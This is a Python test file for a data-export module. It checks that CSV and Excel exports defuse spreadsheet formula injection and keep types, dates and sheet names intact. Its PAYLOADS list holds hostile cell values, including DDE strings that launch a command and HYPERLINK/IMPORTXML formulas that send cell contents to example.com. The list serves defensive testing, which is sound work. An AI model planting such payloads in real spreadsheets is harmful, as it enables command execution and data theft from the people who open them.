"""Exports are harmless, faithful and whole."""

import csv
import io
import json
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analytics import export
from analytics.errors import SheetTooLongError, UnsupportedOutputError, WriteFailedError

# Cells that a spreadsheet would run, or be talked into running.
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "|calc",
    "%0A=1+1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000＝1+1",
    "\ufeff=1+1",
    '" \t=1+1',
]
HARMLESS = ["KT101", "保温杯 500ml", "a=b", "1-2", "O'Neill", "", "  leading blanks", "50%", "x@y"]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def at(*parts: int) -> datetime:
    return datetime(*parts)  # noqa: DTZ001 - a spreadsheet knows no time zone


@pytest.fixture
def plan():
    return pd.DataFrame(
        {
            "sku": ["KT101", "KT102"],
            "market": pd.Categorical(["US", "DE"]),
            "order_quantity": [1234567, 0],
            "demand_mean": [12.5, np.nan],
            "reorder_point": [1200.0, np.inf],
            "order_by": pd.to_datetime(["2026-05-31", None]),
            "seen_at": pd.to_datetime(["2026-05-31 10:20:30", "2026-06-01 00:00:00"]),
            "assumed": [True, False],
            "reason": ["below reorder point", None],
        }
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_leaves_csv_as_text_in_cells_and_headers(payload):
    header, row = read_csv(export.csv(pd.DataFrame({payload: [payload]})))
    assert header == [f"'{payload}"]
    assert row == [f"'{payload}"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_label_is_harmless_too(payload):
    header, _ = read_csv(export.csv(pd.DataFrame({"sku": ["A"]}), labels={"sku": payload}))
    assert header == [f"'{payload}"]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link():
    frame = pd.DataFrame(
        {"text": PAYLOADS, "=1+1": PAYLOADS, "link": ["http://a.b"] * len(PAYLOADS)}
    )
    sheet = read_xlsx(export.xlsx({"=1+1": frame}, labels={"text": "=1+1"})).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)


def test_text_in_a_workbook_is_what_it_was():
    texts = [text for text in [*PAYLOADS, *HARMLESS] if text and "\r" not in text]
    sheet = read_xlsx(export.xlsx({"sheet": pd.DataFrame({"text": texts})})).active
    read = [sheet.cell(row, 1).value for row in range(2, len(texts) + 2)]
    assert read == [text.replace("\x00", "_x0000_") for text in texts]


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_stays_as_it_is(text):
    assert export.harmless(text) == text


@given(st.text())
def test_one_apostrophe_is_all_that_is_ever_added(text):
    out = export.harmless(text)
    assert out in (text, f"'{text}")
    first = out.lstrip(' "\u3000\xa0\ufeff')[:1]
    assert first == "" or first not in "=+-@|%\t\r\n\x00＝＋－＠"


def test_numbers_stay_numbers_in_csv():
    frame = pd.DataFrame({"a": [-1, 2], "b": [-0.5, 1e-7], "c": [3.0, np.nan], "d": [-1, "=x"]})
    assert read_csv(export.csv(frame))[1:] == [["-1", "-0.5", "3", "-1"], ["2", "1e-07", "", "'=x"]]


def test_csv_says_dates_without_a_time_and_leaves_missing_empty(plan):
    rows = read_csv(export.csv(plan))
    assert rows[0] == list(plan.columns)
    assert rows[1] == [
        "KT101", "US", "1234567", "12.5", "1200", "2026-05-31", "2026-05-31 10:20:30", "true",
        "below reorder point",
    ]  # fmt: skip
    assert rows[2] == ["KT102", "DE", "0", "", "", "", "2026-06-01 00:00:00", "false", ""]


def test_a_workbook_keeps_types_and_shows_thousands(plan):
    sheet = read_xlsx(export.xlsx({"plan": plan})).active
    values = [cell.value for cell in sheet[2]]
    assert values == [
        "KT101", "US", 1234567, 12.5, 1200,
        at(2026, 5, 31), at(2026, 5, 31, 10, 20, 30),
        True, "below reorder point",
    ]  # fmt: skip
    assert [cell.value for cell in sheet[3]][3:6] == [None, None, None]
    formats = [cell.number_format for cell in sheet[2]]
    assert formats[2:7] == ["#,##0", "#,##0.00##", "#,##0", "yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss"]


def test_the_header_stays_in_sight_in_the_readers_words(plan):
    sheet = read_xlsx(export.xlsx({"补货": plan}, labels={"sku": "商品编码"}))["补货"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "商品编码"
    assert sheet["B1"].value == "market"
    assert sheet["A1"].font.bold


def test_columns_are_as_wide_as_their_text_within_reason():
    frame = pd.DataFrame({"a": ["x"], "b": ["商品" * 6], "c": ["x" * 500]})
    sheet = read_xlsx(export.xlsx({"sheet": frame})).active
    widths = [round(sheet.column_dimensions[letter].width) for letter in "ABC"]
    assert widths[0] < widths[1] < widths[2] <= 50
    assert widths[1] >= 24


def test_sheet_names_are_made_acceptable():
    frame = pd.DataFrame({"a": [1]})
    names = ["a/b", "A_B", "x" * 40, "'", "History", "备货:计划"]
    made = read_xlsx(export.xlsx(dict.fromkeys(names, frame))).sheetnames
    assert made == ["a_b", "A_B 2", "x" * 31, "Sheet", "History 2", "备货_计划"]


def test_the_same_frame_gives_the_same_bytes(plan):
    assert export.xlsx({"plan": plan}) == export.xlsx({"plan": plan})
    assert export.csv(plan) == export.csv(plan)


def test_an_empty_frame_still_has_its_header():
    empty = pd.DataFrame({"sku": pd.Series(dtype="str"), "date": pd.Series(dtype="datetime64[us]")})
    assert read_csv(export.csv(empty)) == [["sku", "date"]]
    sheet = read_xlsx(export.xlsx({"x": empty})).active
    assert [cell.value for cell in sheet[1]] == ["sku", "date"]


def test_half_characters_and_very_long_texts_do_not_break_a_file():
    frame = pd.DataFrame({"text": pd.Series(["\ud800", "x" * 40_000], dtype=object)})
    assert read_csv(export.csv(frame))[1] == ["?"]
    sheet = read_xlsx(export.xlsx({"x": frame})).active
    assert len(sheet["A3"].value) == 32_767


def test_a_day_that_excel_does_not_know_is_written_as_text():
    frame = pd.DataFrame({"day": [date(1899, 12, 31), date(2026, 5, 31)]})
    sheet = read_xlsx(export.xlsx({"x": frame})).active
    assert [sheet["A2"].value, sheet["A3"].value] == ["1899-12-31", at(2026, 5, 31)]


def test_more_rows_than_a_sheet_holds_are_refused_not_cut():
    frame = pd.DataFrame({"a": np.zeros(1_048_576, dtype="int8")})
    with pytest.raises(SheetTooLongError, match=r"plan has 1,048,576 rows"):
        export.xlsx({"plan": frame})


@pytest.mark.parametrize("ending", ["csv", "xlsx", "parquet", "json", "CSV"])
def test_write_goes_by_the_ending(tmp_path, plan, ending):
    path = tmp_path / f"plan.{ending}"
    path.write_text("old")
    export.write(path, plan)
    assert path.stat().st_size > 100
    assert [other.name for other in tmp_path.iterdir()] == [path.name]


def test_json_and_parquet_keep_canonical_names(tmp_path, plan):
    for ending in ("json", "parquet"):
        export.write(tmp_path / f"plan.{ending}", plan, labels={"sku": "商品编码"})
    rows = json.loads((tmp_path / "plan.json").read_text("utf-8"))
    assert rows[0]["sku"] == "KT101"
    assert rows[0]["order_by"] == "2026-05-31"
    assert rows[1]["demand_mean"] is None
    again = pd.read_parquet(tmp_path / "plan.parquet")
    pd.testing.assert_frame_equal(again, plan)


def test_an_unknown_ending_is_named(tmp_path, plan):
    with pytest.raises(UnsupportedOutputError, match=r"plan\.pdf ends in no format"):
        export.write(tmp_path / "plan.pdf", plan)


def test_a_refusing_disk_is_reported_and_leaves_nothing(tmp_path, plan):
    with pytest.raises(WriteFailedError, match="No such file"):
        export.write(tmp_path / "missing" / "plan.csv", plan)
    (tmp_path / "plan.csv").mkdir()
    with pytest.raises(WriteFailedError):
        export.write(tmp_path / "plan.csv", plan)
    assert [path.name for path in tmp_path.iterdir()] == ["plan.csv"]
